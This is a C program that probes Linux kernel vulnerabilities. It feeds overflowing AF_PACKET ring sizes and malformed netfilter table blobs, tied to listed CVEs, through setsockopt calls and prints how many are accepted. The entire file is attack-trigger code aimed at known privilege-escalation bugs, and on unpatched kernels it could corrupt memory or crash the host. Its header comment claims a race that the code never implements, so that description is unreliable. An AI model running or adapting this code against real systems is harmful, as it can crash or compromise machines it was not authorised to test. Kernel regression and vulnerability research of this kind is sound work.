/* CVE-2016-8655, CVE-2017-7308, CVE-2020-14386: rings of AF_PACKET whose sizes overflow, changed while they are set up; and
   CVE-2021-22555, CVE-2016-3134: tables of netfilter whose offsets lead out of the blob. Prints how many were taken. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/netfilter_ipv4/ip_tables.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <net/ethernet.h>

int main(void) {
    int taken = 0, sizes[] = {0, 1, 4096, 0x7fffffff, 0x80000000, 0xffff0000, 0xffffffff};
    int packet = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (packet < 0) return 1;
    for (int version = 0; version < 3; version++)
        for (int a = 0; a < 7; a++)
            for (int b = 0; b < 7; b++) {
                struct tpacket_req3 ring = {.tp_block_size = sizes[a], .tp_frame_size = sizes[b], .tp_block_nr = 3,
                                            .tp_frame_nr = 3, .tp_sizeof_priv = 0x80000000u};
                setsockopt(packet, SOL_PACKET, PACKET_VERSION, &version, sizeof version);
                setsockopt(packet, SOL_PACKET, PACKET_RESERVE, &sizes[b], sizeof(int));
                taken += setsockopt(packet, SOL_PACKET, PACKET_RX_RING, &ring, version == 2 ? 28 : 16) == 0 && sizes[a];
                taken += setsockopt(packet, SOL_PACKET, PACKET_TX_RING, &ring, version == 2 ? 28 : 16) == 0 && sizes[a];
            }
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    char *blob = calloc(1, 65536);
    for (int length = 0; length < 65536; length += 509) {
        struct ipt_replace *table = (void *)blob;
        strcpy(table->name, "filter");
        table->valid_hooks = 15;
        table->num_entries = length;
        table->size = length > 92 ? length - 92 : 0xfffffff0;
        memset(table->hook_entry, 0xff, sizeof table->hook_entry);
        memset(blob + sizeof *table, 0xff, 65536 - sizeof *table);
        taken += setsockopt(raw, SOL_IP, IPT_SO_SET_REPLACE, blob, length) == 0;
        taken += setsockopt(raw, SOL_IP, IPT_SO_SET_ADD_COUNTERS, blob, length) == 0;
    }
    printf("taken: %d\n", taken);
    return 0;
}
